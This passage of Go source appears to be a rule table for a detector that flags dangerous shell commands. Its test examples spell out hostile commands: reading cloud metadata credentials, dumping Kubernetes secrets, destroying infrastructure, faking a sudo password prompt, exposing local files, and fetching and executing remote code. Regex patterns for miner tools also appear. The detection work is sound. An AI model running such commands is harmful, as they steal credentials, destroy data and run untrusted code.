		ID: "command-hook", Class: "indirect execution", Sev: high,
		Msg: "runs a command through another program's option or environment hook",
		Must: []string{
			"tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=./payload",
			"sysctl -w 'kernel.core_pattern=|/tmp/h %p'",
			"tcpdump -i lo -w /dev/null -W 1 -G 1 -z ./rot.sh",
			"sudo tcpdump -i lo -w /dev/null -W 1 -G 1 -z ./rot.sh",
			"restic --password-command=/var/tmp/.p/pw snapshots",
			"ssh -o ProxyCommand=\"cmd /c start C:\\Users\\Public\\u.exe\" h1",
		},
		MustNot: []string{"GIT_PAGER=cat git log -3", "EDITOR=vim crontab -l", "ssh -o ProxyCommand='ssh -W %h:%p bastion' app1", "tar -I zstd -xf a.tar.zst",
			"ssh -o ProxyCommand='nc -X 5 -x proxy.example.net:1080 %h %p' app1", "SSH_ASKPASS=/usr/lib/ssh/x11-ssh-askpass ssh-add", "LESSOPEN='| /usr/bin/lesspipe %s' less notes.gz"},
		check: checkCommandHook,
	},
	{
		ID: "cloud-metadata", Class: "credential access", Sev: high,
		Msg: "reads cloud credentials from the instance metadata service",
		Must: []string{
			"curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
			"wget -qO- --header 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
			"curl -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?resource=https://management.azure.com/'",
		},
		MustNot: []string{"curl -s http://169.254.169.254/latest/meta-data/instance-type", "curl -s https://api.example.com/token"},
		check:   checkMetadata,
	},
	{
		ID: "kube-secrets", Class: "credential access", Sev: medium,
		Msg:     "prints Kubernetes secrets",
		Must:    []string{"kubectl get secret db-creds -o jsonpath='{.data.password}' | base64 -d", "kubectl get secrets -A -o yaml"},
		MustNot: []string{"kubectl get pods", "kubectl describe secret db-creds"},
		check:   checkKubeSecrets,
	},
	{
		ID: "infra-destroy", Class: "destructive infrastructure", Sev: high,
		Msg: "destroys cloud or cluster resources",
		Must: []string{
			"terraform destroy -auto-approve",
			"kubectl delete namespace production",
			"kubectl delete pods --all -n prod",
			"aws s3 rm s3://acme-backups --recursive",
			"aws s3 rb s3://acme-logs --force",
			"gcloud projects delete acme-prod --quiet",
			"az group delete -n rg-prod --yes",
			"pulumi destroy --yes",
			"aws ec2 describe-instances --query 'Reservations[].Instances[].InstanceId' --output text | xargs aws ec2 terminate-instances --instance-ids",
		},
		MustNot: []string{"terraform plan", "kubectl delete pod api-7d9c-x2", "aws s3 ls s3://acme-backups", "terraform destroy -target=aws_instance.tmp"},
		check:   checkInfraDestroy,
	},
	{
		ID: "fake-password-prompt", Class: "credential access", Sev: high,
		Msg:     "asks for a password with a prompt that imitates sudo",
		Must:    []string{`read -sp "[sudo] password for $USER: " pw; echo "$pw" >> /tmp/.p`},
		MustNot: []string{`read -p "Continue? [y/N] " ans`, `read -r line < VERSION`},
		check:   checkFakePrompt,
	},
	{
		ID: "expose-local", Class: "exfiltration", Sev: high,
		Msg: "exposes local files or a login port to the network",
		Must: []string{
			"python3 -m http.server 8080 --directory /",
			"php -S 0.0.0.0:8000 -t ~",
			"ngrok tcp 22",
			"ssh -N -R 2222:localhost:22 relay@192.0.2.150",
		},
		MustNot: []string{"python3 -m http.server 8000", "ngrok http 3000", "ssh -L 5432:localhost:5432 db-bastion"},
		check:   checkExpose,
	},
	{
		ID: "interp-download-exec", Class: "download and execute", Sev: critical,
		Msg: "runs interpreter code that downloads code and executes it",
		Must: []string{
			`python3 -c "import urllib.request as u;exec(u.urlopen('http://192.0.2.80/p.py').read())"`,
			`ruby -ropen-uri -e 'eval(URI.open("https://example.org/x.rb").read)'`,
			`php -r 'eval(file_get_contents("http://192.0.2.81/s.txt"));'`,
		},
		MustNot: []string{`python3 -c "import urllib.request as u;print(u.urlopen('https://example.org').status)"`},
		check:   checkInterpDownload,
	},
}

// regex helpers used by several rules.
var (
	shellPathRe = regexp.MustCompile(`(^-[A-Za-z]+|^|[\s'"(\[{=:!;|&,.` + "`" + `])(/usr(/local)?)?/bin/(ba|da|z|k|mk|tc|c|y|a|fi)?sh($|[\s'")\]};|&<>,` + "`" + `])`)
	sqlDropRe   = regexp.MustCompile(`(?i)\b(drop\s+(database|schema|table|collection|keyspace|index|user|role)|truncate\s+(table\s+)?[a-z_"` + "`" + `\[]|flushall|flushdb|dropdatabase\s*\(|\.drop\s*\(\s*\)|delete\s+from\s+[^\s;]+\s*(;|$|'|"))`)
	minerRe     = mustLitRe(`(?i)stratum\d?\+(tcp|ssl|tls)://|--donate-level|\bnicehash\b|\b(xmrig|xmr-stak|minerd|cpuminer|cgminer|bfgminer|ethminer|nbminer|t-rex|phoenixminer|lolminer|nanominer|gminer|srbminer)\b`)
)
